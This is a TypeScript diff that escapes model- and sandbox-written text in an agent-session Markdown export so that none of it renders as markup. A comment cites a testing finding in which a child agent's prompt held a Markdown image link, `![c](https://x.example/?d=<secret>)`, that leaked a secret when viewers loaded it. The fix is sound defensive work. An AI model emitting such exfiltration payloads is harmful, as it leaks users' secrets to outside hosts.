@@ -1,6 +1,6 @@
 import { AgentRecords } from '../../agent/records.js'
 import type { ApprovalView, ToolCallView, TurnView } from '../../agent/schemas.js'
-import type { Store } from '../../persistence/index.js'
+import { codeSpan, inlineText, quotedText, type Store } from '../../persistence/index.js'
 import { turnCounts, usageLine } from './printer.js'
 
 const oneLine = (s: string | null, max = 60): string => {
@@ -41,19 +41,18 @@ export function sessionAgent(store: Store, sessionId: string): AgentExport {
   return { turns: sessionTurns(store, sessionId), approvals: new AgentRecords(store).approvals(sessionId) }
 }
 
-const quoted = (text: string) =>
-  text
-    .trimEnd()
-    .split('\n')
-    .map((l) => `> ${l}`)
-    .join('\n')
+// The model's text, its answer, a task a block wrote (sub_loop(prompt)), a tool's arguments and
+// errors are sandbox text: quoted or inline, escaped as the block part of the export escapes them
+// (src/persistence/markdown.ts), so none of it renders as markup (fourteenth outsider pass: a
+// child's prompt `![c](https://x.example/?d=<secret>)` was an image every viewer fetched).
+const quoted = (text: string) => quotedText(text.trimEnd())
 
 export function agentMarkdown(a: AgentExport): string {
   if (a.turns.length === 0) return ''
   const out = ['', '## Agent turns', '']
   for (const t of a.turns) {
     out.push(
-      `### Turn ${t.position} · ${t.status} · ${t.model ?? 'no model'}`,
+      `### Turn ${t.position} · ${inlineText(t.status)} · ${t.model ? inlineText(t.model) : 'no model'}`,
       '',
       `${usageLine(t.usage, turnCounts(t.iterations.length))}`,
       '',
@@ -68,31 +67,43 @@ export function agentMarkdown(a: AgentExport): string {
     const refused = a.approvals.filter((x) => x.turn_id === t.id && x.status !== 'approved')
     for (const r of refused) {
       const args = JSON.stringify(r.args)
+      const by = r.decided_by ? inlineText(r.decided_by) : 'nobody'
       out.push(
-        `- refused: \`${r.tool}\` ${args.length > 200 ? `${args.slice(0, 200)}…` : args} — ${r.status} by ${r.decided_by ?? 'nobody'}${r.note ? `: ${r.note}` : ''}`,
+        `- refused: ${codeSpan(r.tool)} ${codeSpan(args.length > 200 ? `${args.slice(0, 200)}…` : args)} — ${inlineText(r.status)} by ${by}${r.note ? `: ${inlineText(r.note)}` : ''}`,
       )
     }
     for (const c of t.journal.filter((c) => !c.ok && !c.approval)) {
-      out.push(`- failed call: \`${c.tool}\` — ${(c.error ?? '').split('\n')[0]}`)
+      out.push(`- failed call: ${codeSpan(c.tool)} — ${inlineText(firstLine(c.error))}`)
     }
-    if (t.parent) out.push(`- child of turn ${t.parent.turn_id} in session ${t.parent.session_id}`)
-    for (const line of treeLines(t.child_turns, '')) out.push(`- ${line.trimStart()}`)
+    if (t.parent) {
+      out.push(`- child of turn ${codeSpan(t.parent.turn_id)} in session ${codeSpan(t.parent.session_id)}`)
+    }
+    for (const line of treeLines(t.child_turns, '', inlineText)) out.push(`- ${line.trimStart()}`)
     if (t.answer !== null) out.push('', '**Answer**', '', quoted(t.answer))
-    if (t.error) out.push('', `**Error** ${t.error.code}: ${t.error.message}`)
+    if (t.error) out.push('', `**Error** ${codeSpan(t.error.code)}: ${inlineText(t.error.message)}`)
     if (t.child_turns.length > 0) out.push('', `Usage with child turns: ${usageLine(t.tree_usage, 'tree')}`)
     out.push('')
   }
   return out.join('\n')
 }
 
+// The first line of an error, as far as any CommonMark line ending (LF, CR, CRLF).
+const firstLine = (s: string | null): string => (s ?? '').split(/\r\n|\r|\n/)[0] ?? ''
+
 // One line per child turn, nested by indentation: its status, session, task, answer or error
-// and usage.
-function treeLines(kids: readonly TurnTree[], indent: string): string[] {
+// and usage. `text` renders what the sandbox or a model wrote (the task, the answer, the error's
+// code): as is for the terminal (visible.ts escapes controls there), escaped for Markdown.
+function treeLines(
+  kids: readonly TurnTree[],
+  indent: string,
+  text: (s: string) => string = (s) => s,
+): string[] {
   return kids.flatMap((k) => {
-    const end = k.answer !== null ? `→ ${oneLine(k.answer, 40)}` : k.error ? `✗ ${k.error.code}` : ''
+    const end =
+      k.answer !== null ? `→ ${text(oneLine(k.answer, 40))}` : k.error ? `✗ ${text(k.error.code)}` : ''
     return [
-      `${indent}child   ${k.status.padEnd(9)} ${k.session_id}  ${oneLine(k.prompt, 40)} ${end}  ${usageLine(k.usage, turnCounts(k.iterations.length))}`,
-      ...treeLines(k.child_turns, `${indent}  `),
+      `${indent}child   ${k.status.padEnd(9)} ${text(k.session_id)}  ${text(oneLine(k.prompt, 40))} ${end}  ${usageLine(k.usage, turnCounts(k.iterations.length))}`,
+      ...treeLines(k.child_turns, `${indent}  `, text),
     ]
   })
 }
